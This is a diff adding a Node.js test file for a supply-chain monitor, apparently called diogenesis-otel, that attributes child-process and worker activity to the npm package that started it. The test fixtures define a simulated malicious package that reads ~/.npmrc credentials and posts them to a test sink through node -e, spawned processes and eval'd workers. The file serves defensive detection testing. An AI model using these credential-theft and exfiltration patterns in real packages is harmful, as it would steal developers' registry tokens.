@@ -1,0 +1,64 @@
+import assert from 'node:assert/strict';
+import { test } from 'node:test';
+import { type FindingLine, VictimApp } from '../support/victim-app.ts';
+
+const HEAD = `
+const cp = require('node:child_process'), fs = require('node:fs'), os = require('node:os'), path = require('node:path');
+const end = (child) => new Promise((done) => child.on('close', done));
+const post = (text) => "const x = " + text + "; const r = require('node:http').request(process.env.SINK, { method: 'POST' }, (s) => s.resume()); r.end(x);";
+exports.label = (text) => text;
+`;
+
+/** What is told of an application whose package `labels` does this, with everything preloaded. */
+async function told(body: string): Promise<{ findings: FindingLine[]; received: readonly string[] }> {
+  await using app = await VictimApp.create();
+  app.labels('1.0.1', HEAD + body);
+  app.write('main.js', "require('labels').act();");
+  const { code, stderr } = await app.run(['--require', 'diogenesis-otel/register', 'main.js']);
+  assert.equal(code, 0, stderr);
+  return { findings: app.findings(), received: app.received };
+}
+
+const alertsOf = (findings: readonly FindingLine[], name: string) =>
+  findings.filter((finding) => finding.level === 'ALERT' && finding.package.name === name);
+
+test('what `node -e` does is the work of the package that started it', async () => {
+  const { findings, received } = await told(`
+    const secret = "require('node:fs').readFileSync(require('node:path').join(require('node:os').homedir(), '.npmrc'), 'utf8')";
+    exports.act = () => cp.execFileSync(process.execPath, ['-e', post(secret)]);`);
+  assert.match(received[0] ?? '', /canary/);
+  assert.ok(alertsOf(findings, 'labels').some(({ pattern }) => pattern === 'data_exfiltration'));
+  assert.deepEqual(
+    findings.filter((finding) => finding.package.name === '<app>' && finding.level !== 'LOG'),
+    [],
+  );
+});
+
+test('one process reads, another sends: the package behind both is named', async () => {
+  const { findings, received } = await told(`
+    exports.act = () => {
+      const secret = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');
+      return end(cp.spawn(process.execPath, ['-e', post('process.env.X')], { env: { ...process.env, X: secret } }));
+    };`);
+  assert.match(received[0] ?? '', /canary/);
+  assert.ok(alertsOf(findings, 'labels').some(({ pattern }) => pattern === 'data_exfiltration'));
+});
+
+test('a worker made from text acts for the package that made it', async () => {
+  const { findings, received } = await told(`
+    const { Worker } = require('node:worker_threads');
+    const secret = "require('node:fs').readFileSync(require('node:path').join(require('node:os').homedir(), '.npmrc'), 'utf8')";
+    exports.act = () => new Worker(post(secret), { eval: true });`);
+  assert.match(received[0] ?? '', /canary/);
+  assert.ok(alertsOf(findings, 'labels').length > 0);
+});
+
+test('a child of the application stays the application', async () => {
+  await using app = await VictimApp.create();
+  app.write(
+    'main.js',
+    "require('node:child_process').execFileSync(process.execPath, ['-e', 'console.log(process.env.DIOGENESIS_LINEAGE)'], { stdio: 'inherit' });",
+  );
+  const { stdout, stderr } = await app.run(['--require', 'diogenesis-otel/register', 'main.js']);
+  assert.equal(stdout, 'undefined\n', stderr);
+});
